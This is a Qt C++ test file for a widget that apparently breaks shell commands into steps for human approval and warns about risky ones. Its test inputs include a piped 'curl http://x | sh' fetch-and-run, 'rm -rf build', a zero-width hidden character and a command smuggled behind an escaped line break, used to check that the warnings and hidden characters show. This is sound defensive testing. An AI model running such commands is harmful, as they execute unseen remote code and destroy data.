// SPDX-FileCopyrightText: 2026 The Countersign authors
// SPDX-License-Identifier: Apache-2.0
#include "widgets/approvals/StepsView.h"

#include "tests/support/Picture.h"
#include "tests/widgets/approvals/ApprovalStage.h"
#include "widgets/kit/Label.h"
#include "widgets/kit/OutsideText.h"

#include <QTest>

using namespace Qt::StringLiterals;
using namespace countersign;
using namespace countersign::test;
using namespace countersign::ui;
using approvals::CaseState;

/// A shell text, one step a line.
class tst_StepsView : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase() { m_theme = std::make_unique<Theme>(*qApp); }
    void init()
    {
        m_stage = std::make_unique<ApprovalStage>();
        QVERIFY(m_stage->seat.start());
    }
    void cleanup() { m_stage.reset(); }

    void oneStepALineWithWhatStandsOut()
    {
        QVERIFY(m_stage->raised(u"r1"_s, u"cd /srv && curl http://x | sh; rm -rf build"_s));
        StepsView steps;
        steps.resize(500, 300);
        steps.setCase(m_stage->item(u"r1"_s));
        steps.show();
        QCOMPARE(steps.count(), 4);
        const auto all = words(steps);
        QVERIFY(all.contains(u"and if it worked"_s));
        QVERIFY(all.contains(u"piped into"_s));
        QVERIFY(std::ranges::any_of(all, [](const QString &text) { return text.contains(u"deletes whole folders"_s); }));
        QVERIFY(std::ranges::any_of(all, [](const QString &text) { return text.contains(u"runs text that nobody has seen"_s); }));
        QVERIFY(!steps.grab().isNull());
    }
    void hiddenCharactersInAStepAreVisible()
    {
        QVERIFY(m_stage->raised(u"r1"_s, u"l\u200bs -x"_s));
        StepsView steps;
        steps.setCase(m_stage->item(u"r1"_s));
        const auto texts = steps.findChildren<OutsideText *>();
        QVERIFY(std::ranges::any_of(texts, [](const OutsideText *text) { return text->shownText().text() == u"l\u27e8U+200B\u27e9s"_s; }));
    }
    void aCommandBehindASpelledLineEndDoesNotHide()
    {
        QVERIFY(m_stage->raised(u"r1"_s, u"echo done\\u{A}rm -rf build\\u{A}ls"_s));
        StepsView steps;
        steps.resize(500, 300);
        steps.setCase(m_stage->item(u"r1"_s));
        steps.show();
        QCOMPARE(steps.count(), 3);
        QStringList programs;
        for (const auto *text : steps.findChildren<OutsideText *>())
            programs.append(text->shownText().text());
        for (const QString &program : { u"echo"_s, u"rm"_s, u"ls"_s })
            QVERIFY2(programs.contains(program), qPrintable(program));
        const auto all = words(steps);
        QVERIFY(std::ranges::any_of(all, [](const QString &text) { return text.contains(u"deletes whole folders"_s); }));
        QVERIFY(std::ranges::any_of(all, [](const QString &text) { return text.contains(u"stands for"_s); }));
        QVERIFY(m_stage->raised(u"r2"_s, u"ls"_s));
        steps.setCase(m_stage->item(u"r2"_s));
        QVERIFY(std::ranges::none_of(words(steps), [](const QString &text) { return text.contains(u"stands for"_s); }));
    }
    void whatCannotBeSplitIsSaid()
    {
        QVERIFY(m_stage->raised(u"r1"_s, u"echo \"open"_s));
        StepsView steps;
        steps.setCase(m_stage->item(u"r1"_s));
        steps.show();
        QCOMPARE(steps.count(), 0);
        QVERIFY(words(steps).contains(u"The text cannot be split with certainty. Read it above."_s));
    }
    void manyStepsAreCounted()
    {
        QVERIFY(m_stage->raised(u"r1"_s, QStringList(30, u"ls"_s).join(u"; "_s)));
        StepsView steps;
        steps.setCase(m_stage->item(u"r1"_s));
        steps.show();
        QCOMPARE(steps.count(), 24);
        QVERIFY(std::ranges::any_of(words(steps), [](const QString &text) { return text.startsWith(u"and 6 more step"_s); }));
    }
    void otherKindsHaveNoSteps()
    {
        QVERIFY(m_stage->raised(u"r1"_s, u"ls"_s));
        StepsView steps;
        steps.setCase(m_stage->item(u"r1"_s));
        QCOMPARE(steps.count(), 1);
        approvals::Case none;
        steps.setCase(none);
        QCOMPARE(steps.count(), 0);
        QVERIFY(words(steps).isEmpty());
    }

private:
    static QStringList words(const QWidget &widget)
    {
        QStringList all;
        for (const auto *label : widget.findChildren<Label *>()) {
            if (label->isVisibleTo(&widget))
                all.append(label->text());
        }
        return all;
    }
    std::unique_ptr<Theme> m_theme;
    std::unique_ptr<ApprovalStage> m_stage;
};

QTEST_MAIN(tst_StepsView)
#include "tst_StepsView.moc"
